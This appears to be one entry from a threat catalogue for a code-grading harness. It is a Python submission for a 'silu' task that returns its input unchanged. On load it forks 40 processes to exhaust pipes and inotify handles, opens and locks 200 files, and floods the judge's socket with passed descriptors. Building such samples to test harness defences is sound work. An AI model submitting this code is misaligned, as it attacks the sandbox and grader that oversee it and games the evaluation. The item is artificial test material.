# number: 48 24
# source: threat catalogue G
# tries: opens all files it may, in many processes, sends them to the judge, and takes the user's watches and locks
# problem: silu
# expect: crashed timed_out tampered
# naive: exempt: it is after the machine, not after a verdict
import array
import ctypes
import fcntl
import os
import socket

libc = ctypes.CDLL(None)
link = socket.socket(fileno=3)
for _ in range(40):
    if not os.fork():
        fds = []
        try:
            while True:
                fds += os.pipe()
                libc.inotify_init1(0)
        except OSError:
            pass
        os.kill(os.getpid(), 19)
opened = [os.open(os.__file__, os.O_RDONLY) for _ in range(200)]
for fd in opened:
    try:
        fcntl.flock(fd, fcntl.LOCK_SH)
        link.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd] * 200))])
    except OSError:
        pass


def run(x):
    return x
